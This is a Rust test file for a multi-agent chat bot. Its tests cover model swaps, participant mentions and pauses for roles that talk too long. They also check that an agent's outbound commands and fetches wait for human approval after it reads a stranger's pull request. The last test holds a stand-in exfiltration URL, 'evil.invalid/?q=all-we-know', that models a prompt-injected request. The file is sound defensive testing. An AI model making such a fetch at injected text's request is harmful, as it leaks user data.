//! How people keep hold of a thread: another model for a role, everybody who
//! took part is notified, roles that talk too long pause, and a command asks once
//! text from outside was read.

use serde_json::{Value, json};

use crate::{
    preparing::{foreign_pull, skill},
    team::{Team, says, story},
};

/// The model of every answer in a log, in order.
pub(crate) fn models(log: &str) -> Vec<String> {
    let lines = log.lines().map(|line| serde_json::from_str(line).unwrap());
    lines
        .filter(|line: &Value| line["entry"]["record"]["t"] == "assistant")
        .map(|line| {
            line["entry"]["record"]["model"]
                .as_str()
                .unwrap()
                .to_owned()
        })
        .collect()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn another_model_answers_from_the_next_message_on_with_the_whole_history() {
    let scenario = "title: two answers\nroles:\n  pm:\n    - say: The first answer.\n    - expect: { any_user_contains: [\"what is this?\", \"and then?\"] }\n      say: The second answer.\n    - say: The third answer.\n";
    let team = Team::start_configured(scenario, |config| {
        config["models"]["pm"]["pool"] = json!({"other": "other/pm"});
    })
    .await;
    let root = team.say("what is this?").await;
    team.until(&root, "an answer", |thread| {
        says(thread, "The first answer")
    })
    .await;
    team.reply(&root, "!pm other").await;
    team.until(&root, "the swap", |thread| {
        says(thread, "From here on `other/pm` answers for me")
    })
    .await;
    team.reply(&root, "and then?").await;
    team.until(&root, "the other answer", |thread| {
        says(thread, "The second answer")
    })
    .await;
    assert_eq!(models(&team.log(&root, "pm")), ["rehearsal/pm", "other/pm"]);

    // It holds after a restart of the role.
    team.kill("pm");
    team.reply(&root, "and after that?").await;
    team.until(&root, "the third answer", |thread| {
        says(thread, "The third answer")
    })
    .await;
    assert_eq!(
        models(&team.log(&root, "pm")),
        ["rehearsal/pm", "other/pm", "other/pm"]
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_question_rings_at_everybody_who_took_part() {
    let scenario = "title: a question\nroles:\n  pm:\n    - say: Noted.\n    - call:\n        - { tool: AskUser, with: { question: \"Which of you two is right?\" } }\n    - say: Thanks.\n";
    let team = Team::start_on_slack(scenario).await;
    let ana = team.slack().person("ana");
    let ben = team.slack().person("ben");
    let root = team.say("it must be blue").await;
    team.until(&root, "a word", |thread| says(thread, "Noted."))
        .await;
    team.slack()
        .say(&ben, &team.channel, "no, green", Some(&root));
    let thread = team
        .until(&root, "the question", |thread| {
            says(thread, "Which of you two is right?")
        })
        .await;
    let messages = thread["messages"].as_array().unwrap();
    let asked = messages
        .iter()
        .find(|one| one["text"].as_str().unwrap().contains("Which of you"));
    let text = asked.unwrap()["text"].as_str().unwrap();
    assert_eq!(
        text,
        format!("<@{ana}> <@{ben}> Which of you two is right?")
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn roles_that_talk_too_long_among_themselves_pause_until_a_person_speaks() {
    let scenario = include_str!("scenarios/chatter.yaml");
    let team = Team::start_configured(scenario, |config| {
        config["limits"] = json!({"maxExchanges": 4});
    })
    .await;
    let root = team.say("is it one or two?").await;
    let thread = team
        .until(&root, "the pause", |thread| {
            says(thread, "@codebutler.reviewer go on")
        })
        .await;
    let between = story(&thread);
    let between = between
        .iter()
        .filter(|line| line.contains(": @codebutler."));
    assert_eq!(between.count(), 3, "{:#?}", story(&thread));
    team.reply(&root, "@codebutler.reviewer yes, answer it")
        .await;
    team.until(&root, "the answer", |thread| {
        says(thread, "@codebutler.pm It is two.")
    })
    .await;
}

/// The Reviewer has paused and asked; the person speaks to the PM instead, who
/// asks the Reviewer again.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_role_that_paused_goes_on_when_a_person_spoke_to_another() {
    let scenario = include_str!("scenarios/chatter_elsewhere.yaml");
    let team = Team::start_configured(scenario, |config| {
        config["limits"] = json!({"maxExchanges": 4});
    })
    .await;
    let root = team.say("is it one or two?").await;
    team.until(&root, "the pause", |thread| {
        says(thread, "@codebutler.reviewer go on")
    })
    .await;
    team.reply(&root, "@codebutler.pm ask about three").await;
    let answered = |thread: &Value| says(thread, "@codebutler.pm It is three.");
    team.until(&root, "the answer", answered).await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_command_that_reaches_outside_asks_once_text_from_outside_was_read() {
    let scenario = include_str!("scenarios/tainted.yaml");
    let team = Team::start_with(scenario, |root| {
        let changes = "\n## Changes\ncode\n";
        skill(root, "push", "push like {pr}", "coder", changes);
        foreign_pull(root);
    })
    .await;
    let root = team.say("push like 1").await;
    let thread = team
        .until(&root, "the card", |thread| says(thread, "May I run this?"))
        .await;
    assert!(
        says(&thread, "text from outside is in the context"),
        "{thread:#}"
    );
    assert!(says(&thread, "Text from outside was read here"));
    assert!(says(&thread, "GHStatus"), "{thread:#}");
    let asked = |log: &str| log.matches("\"decision_asked\"").count();
    let is_command = |line: &&str| line.contains("\"tool_intent\"") && line.contains("\"Bash\"");
    let ran = |log: &str| log.lines().filter(is_command).count();
    let log = team.log(&root, "coder");
    assert_eq!(
        (ran(&log), asked(&log)),
        (2, 1),
        "an answer for which nothing was fetched changes nothing; after the page the third waits: {log}"
    );
    team.press_on(&root, 1, "reject").await;
    team.until(&root, "the way on", |thread| {
        says(thread, "I may not push. What now?")
    })
    .await;
    assert_eq!(ran(&team.log(&root, "coder")), 2);
}

/// The Coder read a stranger's pull request, so its question to the Researcher may be the
/// stranger's. What a person named is read all the same.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_host_that_nobody_named_asks_once_text_from_outside_was_read() {
    let scenario = include_str!("scenarios/tainted_web.yaml");
    let team = Team::start_with(scenario, |root| {
        let changes = "\n## Changes\ncode\n";
        skill(root, "push", "push like {pr}", "coder", changes);
        foreign_pull(root);
    })
    .await;
    let root = team.say("push like 1").await;
    let named = "!aside it is in https://named.invalid/changelog";
    team.reply(&root, named).await;
    let thread = team
        .until(&root, "the card", |thread| says(thread, "May I do this?"))
        .await;
    for words in [
        "nobody named the host `evil.invalid`",
        "the question of the Coder",
        "https://evil.invalid/?q=all-we-know",
    ] {
        assert!(says(&thread, words), "{words}: {thread:#}");
    }
    let is_fetch = |line: &&str| line.contains("\"tool_intent\"") && line.contains("\"WebFetch\"");
    let fetched = || team.research_logs(&root).lines().filter(is_fetch).count();
    assert_eq!(
        fetched(),
        1,
        "what the person named was tried, the other waits"
    );
    team.press_card(&root, "May I do this?", "reject").await;
    team.until(&root, "the way on", |thread| {
        says(thread, "Nothing was found. What now?")
    })
    .await;
    assert_eq!(fetched(), 1);
    // The click reached the log that had asked, and woke nobody else.
    let others = team.log(&root, "researcher");
    assert!(!others.contains("evil.invalid"), "{others}");
}
